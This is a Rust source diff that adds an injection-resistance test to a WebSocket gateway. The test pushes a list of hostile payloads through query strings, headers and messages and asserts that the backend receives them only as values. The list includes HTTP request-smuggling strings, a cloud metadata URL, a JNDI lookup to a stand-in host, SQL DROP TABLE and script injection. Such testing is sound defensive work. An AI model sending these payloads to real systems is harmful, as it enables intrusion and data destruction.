@@ -2,6 +2,7 @@
 //! many connections and messages, in virtual time and from seeds.
 
 use std::collections::BTreeMap;
+use std::fmt::Write as _;
 
 use serde_json::Value;
 use wspulse::rng::Rng;
@@ -198,4 +199,137 @@ fn and_so_it_is_with_other_seeds() {
     for seed in 2..8 {
         play(seed, 20, 30);
     }
+}
+
+/// What clients have put into messages and fields to make a backend see something else.
+const PAYLOADS: &[&str] = &[
+    "it's \"fine\" \\ ☃\n",
+    "\",\"stage\":\"evil",
+    "\"}{\"myBody\":\"",
+    "\\\",\\\"domain\\\":\\\"evil",
+    "x\r\nHost: evil\r\n\r\nGET / HTTP/1.1\r\n",
+    "x\r\nContent-Length: 0\r\n\r\nDELETE /all HTTP/1.1\r\n\r\n",
+    "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+    "x\nConnectionId: other\n",
+    "0\r\n\r\nPOST /connect HTTP/1.1\r\n\r\n",
+    "\u{0}\u{1}\u{7f}\u{85}\u{2028}\u{2029}",
+    "%0d%0aX-Evil: 1",
+    "http://169.254.169.254/latest/meta-data",
+    "../../connect",
+    "//evil.example/",
+    "?admin=1#",
+    "{{constructor.constructor('return 1')()}}",
+    "${jndi:ldap://evil/a}",
+    "$request.body.action",
+    "{\"action\":\"join\",\"url\":\"http://evil/\"}",
+    "{\"action\":\"$disconnect\"}",
+    "{\"action\":\"join\\u0000\"}",
+    "{\"action\":[\"join\"]}",
+    "{\"domain\":\"evil.example\",\"stage\":\"evil\",\"myConnectionIdProperty\":\"other\"}",
+    "'; DROP TABLE sessions; --",
+    "<script>alert(1)</script>",
+    "\u{feff}{\"action\":\"join\"}",
+    "{\"a\":1e999}",
+    "{\"action\":\"join\"}{\"action\":\"leave\"}",
+    "null",
+    "\"\"",
+];
+
+/// Fields of a request head by which a client can try the same.
+fn fields(payload: &str) -> Vec<String> {
+    let visible: String =
+        payload.chars().map(|c| if c.is_ascii_graphic() || c == ' ' { c } else { '.' }).collect();
+    vec![
+        format!("User-Agent: {visible}"),
+        format!("ConnectionId: {visible}"),
+        format!("Cookie: {visible}"),
+        format!("X-Forwarded-For: {visible}"),
+    ]
+}
+
+/// Whatever a client sends stands where a value stands: path, fields and their order, lengths and
+/// the members of the JSON are the same for all of them.
+#[test]
+fn what_clients_send_stays_a_value() {
+    for format in ["template", "proxy", "event"] {
+        let args = format!(
+            "--gateway-backend http://127.0.0.1:8501/b --gateway-format {format} \
+             --gateway-route $request.body.action --gateway-routes join,leave"
+        );
+        let args: Vec<&str> = args.split_whitespace().collect();
+        let mut shapes: BTreeMap<String, usize> = BTreeMap::new();
+        for payload in PAYLOADS {
+            let mut house = House::new(&args);
+            house.wires.0.borrow_mut().refuses = false;
+            let wire = house.connect();
+            let mut query = String::new();
+            for byte in payload.bytes() {
+                write!(query, "%{byte:02x}").unwrap();
+            }
+            let head = upgrade(&format!("/gateway/prod?q={query}"), &[]);
+            let more = fields(payload).join("\r\n");
+            let head = [&head[..head.len() - 2], more.as_bytes(), b"\r\n\r\n"].concat();
+            house.send(wire, &head);
+            let backend = *house.wires.0.borrow().dialled.last().expect("a request");
+            let asked = house.wires.take_output(backend);
+            *shapes.entry(shape(&asked, payload, format)).or_default() += 1;
+            house.send(backend, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+            house.wires.take_output(wire);
+            house.send(wire, &text(payload));
+            let asked = house.wires.take_output(backend);
+            *shapes.entry(shape(&asked, payload, format)).or_default() += 1;
+        }
+        // One for $connect, one for messages; what proxy passes on may be JSON or not.
+        let most = if format == "proxy" { 3 } else { 2 };
+        assert!(shapes.len() <= most, "{format}: {shapes:#?}");
+        assert_eq!(shapes.values().sum::<usize>(), 2 * PAYLOADS.len());
+    }
+}
+
+/// A request without its values, and with the message checked.
+fn shape(asked: &[u8], payload: &str, format: &str) -> String {
+    let mut rest = asked.to_vec();
+    let (path, body) = take(&mut rest).expect("a whole request");
+    assert!(rest.is_empty(), "{payload:?}: two requests");
+    let head = String::from_utf8(asked[..asked.len() - body.len()].to_vec()).unwrap();
+    let lines: Vec<&str> = head
+        .lines()
+        .map(|line| if line.starts_with("Content-Length") { "Content-Length" } else { line })
+        .collect();
+    let is_connect = path == "/b/connect";
+    let members = match format {
+        "template" if !is_connect => {
+            let value: Value = serde_json::from_slice(&body).unwrap();
+            assert_eq!(value["myBody"], *payload);
+            assert_eq!(
+                (&value["stage"], &value["domain"]),
+                (&"prod".into(), &"example.test".into())
+            );
+            keys(&value)
+        }
+        "event" => {
+            let value: Value = serde_json::from_slice(&body).unwrap();
+            if is_connect {
+                assert_eq!(value["queryStringParameters"]["q"], *payload);
+            } else {
+                assert_eq!(value["body"], *payload);
+            }
+            let route = value["requestContext"]["routeKey"].as_str().unwrap();
+            assert!(["$connect", "$default", "join"].contains(&route), "{route}");
+            keys(&value) + &keys(&value["requestContext"])
+        }
+        "proxy" if !is_connect => {
+            assert_eq!(body, payload.as_bytes());
+            String::new()
+        }
+        _ => {
+            assert_eq!(body, b"");
+            String::new()
+        }
+    };
+    format!("{} {members}", lines.join(" | "))
+}
+
+fn keys(value: &Value) -> String {
+    value.as_object().unwrap().keys().cloned().collect::<Vec<_>>().join(",")
 }
